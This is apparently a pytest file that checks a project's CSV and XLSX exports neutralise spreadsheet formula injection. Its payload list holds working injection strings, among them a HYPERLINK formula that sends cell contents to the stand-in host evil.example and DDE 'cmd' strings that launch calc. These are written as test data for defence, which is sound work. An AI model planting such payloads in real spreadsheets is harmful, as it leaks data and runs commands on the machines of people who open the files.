"""Exports are safe to open in Excel and WPS (CSV / formula injection, OWASP): every text cell a
spreadsheet could run is neutralised, in CSV (a leading ``'``) and XLSX (string cells, never formulas,
quote-prefixed), through the dashboard's export callback, the importer's rejects file and ``onemap
assign``'s CSV output. Numbers stay numbers."""

from __future__ import annotations

import base64
import csv
import io
import json
import zipfile

import openpyxl
import pandas as pd
import pytest
import sqlalchemy as sa
from hypothesis import given
from hypothesis import strategies as st

from data import spreadsheet as sp

#: First characters that make a formula, and ways to hide them.
TRIGGERS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "\u2212"]
PREFIXES = ["", " ", "  ", "\u3000", "\u00a0", "\u200b", " \ufeff"]
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    " =1+1",
    "\u3000＝IMPORTXML(A1)",
    "\t=1+1",
    "\r=1+1",
    "\t",
    "\rx",
    "-",
    "--1",
    "-1+2",
]
SAFE = ["核查", "南通市崇川区和平桥街道1号", "a=b", "1-2", "x@y.cn", "-12.5", "-3", "", "'=already"]


def _csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _xlsx_cells(data: bytes):
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, "a formula element in the sheet"
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [list(row) for row in book.active.iter_rows()]


def _assert_safe_csv(text: str, expected: list[str]) -> None:
    cells = [c for row in _csv_cells(text) for c in row]
    for value in expected:
        if sp.is_dangerous(value):
            assert "'" + value in cells or ("'" + value).strip() in cells, value
            assert value not in cells, value
    for cell in cells:
        assert not sp.is_dangerous(cell) or cell.startswith("'"), cell


def _assert_safe_xlsx(data: bytes) -> list:
    rows = _xlsx_cells(data)
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                assert cell.data_type in ("s", "inlineStr"), cell.value
                if sp.is_dangerous(cell.value):
                    assert cell.quotePrefix, cell.value
    return rows


# ---------------------------------------------------------------------- the cell rule
@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("prefix", PREFIXES)
def test_every_formula_form_is_dangerous(prefix, payload):
    text = prefix + payload
    if payload[0] in "\t\r":  # OWASP: a leading tab or carriage return, only as the very first character
        text = payload
    assert sp.is_dangerous(text)
    assert sp.neutralise(text) == "'" + text


@pytest.mark.parametrize("value", SAFE)
def test_plain_text_and_plain_negative_numbers_are_left_alone(value):
    assert not sp.is_dangerous(value) and sp.neutralise(value) == value


@given(
    prefix=st.sampled_from(PREFIXES),
    trigger=st.sampled_from([*TRIGGERS, "\t", "\r"]),
    rest=st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=30),
)
def test_any_text_after_a_trigger_is_neutralised_in_csv_and_xlsx(prefix, trigger, rest):
    value = (trigger + rest) if trigger in "\t\r" else prefix + trigger + rest
    if trigger == "-" and not prefix and sp._NEGATIVE_NUMBER.fullmatch(value):
        return  # a plain negative number
    frame = pd.DataFrame({"地址": [value, "正常"], "户数": [-3, 4]})
    row = _csv_cells(sp.csv_text(frame))[1]
    assert row[0] == "'" + value
    assert row[1] == "-3"
    rows = _assert_safe_xlsx(sp.xlsx_bytes(frame, "标准地址"))
    assert rows[1][0].data_type == "s" and rows[1][0].quotePrefix
    assert rows[1][1].value == -3 and rows[1][1].data_type == "n"


def test_numbers_dates_and_missing_values_keep_their_types_in_xlsx():
    frame = pd.DataFrame(
        {
            "n": [-5, 2],
            "x": [-1.5, float("nan")],
            "i": pd.array([None, -7], dtype="Int64"),
            "d": pd.to_datetime(["2026-01-02 03:04:05", None]),
            "b": [True, False],
            "s": pd.array(["=1+1", None], dtype="string"),
            "c": pd.Categorical(["@x", "y"]),
            "ctl": ["a\x01b", "=\x02"],
        }
    )
    rows = _assert_safe_xlsx(sp.xlsx_bytes(frame, "a/b:c*?[]" * 5))
    assert [c.value for c in rows[0]] == list(frame.columns)
    first, second = rows[1], rows[2]
    assert first[0].value == -5 and first[1].value == -1.5 and second[1].value is None
    assert first[2].value is None and second[2].value == -7
    assert first[3].value.year == 2026 and second[3].value is None
    assert first[4].value is True
    assert first[5].value == "=1+1" and first[5].quotePrefix and second[5].value is None
    assert first[6].value == "@x" and first[6].quotePrefix
    assert first[7].value == "a\ufffdb" and second[7].quotePrefix
    text = sp.csv_text(frame)
    cells = _csv_cells(text)
    assert cells[1][0] == "-5" and cells[1][5] == "'=1+1" and cells[1][6] == "'@x"


@given(
    before=st.text(max_size=10),
    after=st.sampled_from(PAYLOADS),
    newline=st.sampled_from(["\r", "\n", "\r\n"]),
)
def test_a_line_break_inside_a_cell_cannot_start_a_row_with_a_formula(before, after, newline):
    frame = pd.DataFrame({"地址": [before + newline + after], "户数": [1]})
    rows = _csv_cells(sp.csv_text(frame))
    assert len(rows) == 2 and rows[1][1] == "1"
    assert rows[1][0] in (before + newline + after, "'" + before + newline + after)


def test_dangerous_column_names_are_neutralised_too():
    frame = pd.DataFrame({"=cmd|' /C calc'!A0": ["x"]})
    assert _csv_cells(sp.csv_text(frame))[0] == ["'=cmd|' /C calc'!A0"]
    assert _assert_safe_xlsx(sp.xlsx_bytes(frame))[0][0].quotePrefix


# ---------------------------------------------------------------------- every export path
@pytest.fixture(scope="module")
def poisoned(tiny_demo, tmp_path_factory):
    """A loaded SQLite store whose addresses (and residents' origins) in one grid hold every payload."""
    from dashboard.app import AppConfig, create_app
    from data.store import load_layers, open_store
    from data.store.users import add_user

    folder = tmp_path_factory.mktemp("poisoned_store")
    store = open_store(url="", data_dir=folder)
    load_layers(store, tiny_demo)
    addresses = store.read("addresses", geometry=False)
    grid = addresses.grid_code.value_counts().index[0]
    ids = addresses[addresses.grid_code == grid].address_id.tolist()
    values = [p + t for p in PREFIXES[:3] for t in PAYLOADS] + SAFE
    with store.begin() as conn:
        for address_id, value in zip(ids, values, strict=False):
            conn.execute(
                sa.text("UPDATE addresses SET address = :v, building_kind = :v WHERE address_id = :i"),
                {"v": value, "i": address_id},
            )
        conn.execute(
            sa.text("UPDATE population SET origin = :v WHERE grid_code = :g"), {"v": "=1+1", "g": grid}
        )
    add_user(store, "analyst1", "export-test-1", "analyst", grid[:6])
    app = create_app(store, AppConfig(data_dir=folder))
    yield {"app": app, "grid": grid, "values": values[: len(ids)], "store": store}
    store.close()


def _export(client, grid, layer, fmt):
    ident = {"fmt": fmt, "layer": layer, "type": "export"}
    body = {
        "output": "export-download.data",
        "outputs": {"id": "export-download", "property": "data"},
        "inputs": [[{"id": ident, "property": "n_clicks", "value": 1}]],
        "state": [
            {"id": "url", "property": "pathname", "value": "/overview"},
            {"id": "url", "property": "search", "value": f"?unit={grid}"},
        ],
        "changedPropIds": [json.dumps(ident, separators=(",", ":"), sort_keys=True) + ".n_clicks"],
    }
    r = client.post("/_dash-update-component", json=body)
    assert r.status_code == 200, r.get_data(as_text=True)[:300]
    data = r.get_json()["response"]["export-download"]["data"]
    return base64.b64decode(data["content"]) if data.get("base64") else data["content"].encode()


@pytest.mark.parametrize("layer", ["addresses", "population"])
def test_the_dashboard_export_neutralises_poisoned_records(poisoned, layer):
    c = poisoned["app"].server.test_client()
    assert c.post("/login", json={"user": "analyst1", "password": "export-test-1"}).status_code == 200
    expected = poisoned["values"] if layer == "addresses" else ["=1+1"]
    text = _export(c, poisoned["grid"], layer, "csv").decode("utf-8")
    _assert_safe_csv(text, expected)
    rows = _assert_safe_xlsx(_export(c, poisoned["grid"], layer, "xlsx"))
    strings = {cell.value for row in rows for cell in row if isinstance(cell.value, str)}
    dangerous = [v for v in expected if sp.is_dangerous(v)]
    assert dangerous and all(v.replace("\r", "\n") in strings or v in strings for v in dangerous)
    if layer == "addresses":  # households stay numbers
        col = [cell.value for cell in rows[0]].index("户数")
        assert all(isinstance(row[col].value, int) for row in rows[1:])


def _assert_csv_file_safe(path, needle: str) -> None:
    text = path.read_text(encoding="utf-8-sig")
    assert needle in text  # the value is there, as typed after the quote
    for row in _csv_cells(text)[1:]:
        for cell in row:
            assert not sp.is_dangerous(cell), cell


def test_the_importers_rejects_file_neutralises_imported_values(tmp_path):
    from click.testing import CliRunner

    from onemap.cli import main

    src = tmp_path / "incidents.csv"
    pd.DataFrame(
        {
            "incident_id": ['=HYPERLINK("http://x","y")', "@SUM(1)", " -1+cmd|' /C calc'!A0"],
            "occurred_at": ["＝1", "+1+1", "2026-01-01 00:00:00"],
            "category": ["\t=1", "-x", "刑事"],
            "lon": ["-cmd|' /C calc'!A0", "abc", "999"],
            "lat": ["＝1", "+1+1", "-999"],
        }
    ).to_csv(src, index=False)
    out = tmp_path / "out"
    result = CliRunner().invoke(main, ["import", str(src), "--layer", "incidents", "--out", str(out)])
    rejects = out / "rejects" / "incidents.rejects.csv"
    assert rejects.exists(), result.output
    _assert_csv_file_safe(rejects, "'=HYPERLINK")


def test_assign_csv_output_neutralises_point_attributes(tmp_path, tiny_demo):
    import geopandas as gpd
    from click.testing import CliRunner

    from onemap.cli import main

    points = gpd.read_parquet(tiny_demo / "incidents.parquet").head(len(PAYLOADS))
    points["address_id"] = PAYLOADS
    points.to_parquet(tmp_path / "points.parquet")
    out = tmp_path / "assigned.csv"
    args = ["assign", "--points", f"incidents={tmp_path / 'points.parquet'}"]
    result = CliRunner().invoke(main, [*args, "--grids", str(tiny_demo / "grids.parquet"), "--out", str(out)])
    assert out.exists(), result.output
    _assert_csv_file_safe(out, "'=cmd|")
